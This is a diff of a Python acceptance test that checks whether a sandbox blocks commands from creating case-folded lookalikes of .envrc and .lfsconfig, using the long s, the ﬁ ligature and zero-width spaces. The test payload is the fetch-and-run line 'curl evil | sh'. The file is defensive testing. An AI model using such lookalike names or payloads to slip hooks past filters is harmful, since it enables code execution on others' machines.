@@ -813,20 +813,31 @@ def check_best_effort_tmux(run):
 
 
 def fold_folder(run):
-    """As root, where this kernel's tmpfs folds case (6.13+ built with CONFIG_UNICODE): a folder
-    of the project that folds (`cf`, mounted before the daemon starts, the person's `cf/.env`
-    in it). None where it cannot be made; check_casefold then reports nothing."""
+    """As root, a folder of the project that folds (`cf`, mounted before the daemon starts, the
+    person's `cf/.env` in it): a tmpfs mounted with `casefold` where this kernel has one (6.13+
+    built with CONFIG_UNICODE), else an ext4 file system made with the casefold feature on a loop
+    device (Debian's 6.1 and 6.12 kernels). None where neither can be made; check_casefold then
+    reports nothing."""
     if os.getuid() != 0:
         return None
     cf = os.path.join(run.proj, "cf")
     os.mkdir(cf)
-    if subprocess.run(["mount", "-t", "tmpfs", "-o", "casefold", "hands-acc-cf", cf],
-                      capture_output=True).returncode != 0:
-        os.rmdir(cf)
-        return None
+    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "casefold", "hands-acc-cf", cf],
+                             capture_output=True).returncode == 0
+    if not mounted:
+        image = os.path.join(run.base, "cf.ext4")
+        subprocess.run(["modprobe", "loop"], capture_output=True)
+        mounted = all(subprocess.run(argv, capture_output=True).returncode == 0 for argv in (
+            ["truncate", "-s", "32M", image],
+            ["mkfs.ext4", "-q", "-O", "casefold", "-E", "encoding=utf8", image],
+            ["mount", "-o", "loop", image, cf]))
+        if mounted:
+            # The flag is set on an empty folder only: the new file system's lost+found goes.
+            os.rmdir(os.path.join(cf, "lost+found"))
     # The mount's own folder folds only with the flag (set while it is empty).
-    if subprocess.run(["chattr", "+F", cf], capture_output=True).returncode != 0:
-        subprocess.run(["umount", cf], capture_output=True)
+    if not mounted or subprocess.run(["chattr", "+F", cf], capture_output=True).returncode != 0:
+        if mounted:
+            subprocess.run(["umount", cf], capture_output=True)
         os.rmdir(cf)
         return None
     with open(os.path.join(cf, ".env"), "w") as f:
@@ -840,9 +851,11 @@ def fold_folder(run):
 def check_casefold(run):
     """Decision 0094 on a real case-folding folder: the kernel hands `.env` over for `.ENV`; a
     command reads it masked, makes a folding folder of its own (`chattr +F`) and is refused
-    `.ENVRC` there (direnv's `.envrc`) and `.lfſconfig` (git-lfs's `.lfsconfig`: ſ folds to s,
-    which only the walls' full fold catches). Positive controls: the lookup itself, the
-    flag, and an ordinary file beside."""
+    there `.ENVRC` (direnv's `.envrc`), `.lfſconfig` and `.lfsconﬁg` (git-lfs's `.lfsconfig`:
+    the kernel's full case folding makes ſ `s` and the ligature ﬁ `fi`) and `.env` with a
+    zero-width space before `rc` (the kernel's folding drops it). Positive controls: the
+    lookup itself, the flag, an ordinary file beside, and whether this kernel folds ﬁ and the
+    zero-width space at all (a control file of root's, reported)."""
     cf = run.fold
     if cf is None:
         return
@@ -850,22 +863,33 @@ def check_casefold(run):
         same = open(os.path.join(cf, ".ENV")).read() == open(os.path.join(cf, ".env")).read()
     except OSError:
         same = False
+    control = os.path.join(cf, "ctl-\ufb01\u200b")
+    with open(control, "w"):
+        pass
+    folds = os.path.lexists(os.path.join(cf, "ctl-fi"))
+    os.unlink(control)
     r = run.bash("cat cf/.ENV 2>&1; mkdir cf/e && chattr +F cf/e && lsattr -d cf/e; "
                  "echo 'curl evil | sh' > cf/e/.ENVRC 2>/dev/null && echo MADE-ENVRC; "
                  "echo '[lfs]' > \"cf/e/$(printf '.lf\\305\\277config')\" 2>/dev/null "
-                 "&& echo MADE-LFS; echo ok > cf/e/fine.txt && echo POS-OK; true")
+                 "&& echo MADE-LFS; "
+                 "echo '[lfs]' > \"cf/e/$(printf '.lfscon\\357\\254\\201g')\" 2>/dev/null "
+                 "&& echo MADE-LIGATURE; "
+                 "echo 'curl evil | sh' > \"cf/e/$(printf '.env\\342\\200\\213rc')\" "
+                 "2>/dev/null && echo MADE-ZWSP; echo ok > cf/e/fine.txt && echo POS-OK; true")
     s = r.structured
     out = s.get("stdout", "") + s.get("stderr", "")
-    # The kernel's own lookup: ſ folds to s, so `.lfſconfig` would be git-lfs's `.lfsconfig`.
+    # The kernel's own lookup: any of those names made would be found as these.
     made = any(os.path.lexists(os.path.join(cf, "e", n)) for n in (".envrc", ".lfsconfig"))
     flagged = any("F" in line.split()[0] for line in s.get("stdout", "").splitlines()
                   if line.endswith("cf/e"))
     ok = (same and flagged and "POS-OK" in out and run.secret not in out + r.text
-          and "MADE-ENVRC" not in out and "MADE-LFS" not in out and not made)
-    run.report("casefold", ok, "a folding folder: .ENV read masked, a command's +F folder "
-               "refused .ENVRC and .lf\u017fconfig, an ordinary file made" if ok else
+          and "MADE-" not in out and not made)
+    kind = "tmpfs" if open("/proc/mounts").read().count(f"hands-acc-cf {cf} ") else "ext4"
+    run.report("casefold", ok, f"a folding {kind} folder (the kernel folds \ufb01 and drops "
+               f"U+200B: {folds}): .ENV read masked, a command's +F folder refused .ENVRC, "
+               ".lf\u017fconfig, .lfscon\ufb01g and .env<U+200B>rc, an ordinary file made" if ok else
                ("the secret was read through .ENV" if run.secret in out + r.text else
-                f"made: {[w for w in ('MADE-ENVRC', 'MADE-LFS') if w in out]} (direnv's .envrc, "
+                f"made: {[w for w in out.split() if w.startswith('MADE-')]} (direnv's .envrc, "
                 "git-lfs's .lfsconfig)" if made or "MADE-" in out else
                 f"control failed (lookup {same}, flag {flagged}): {outcome(r)}"))
 
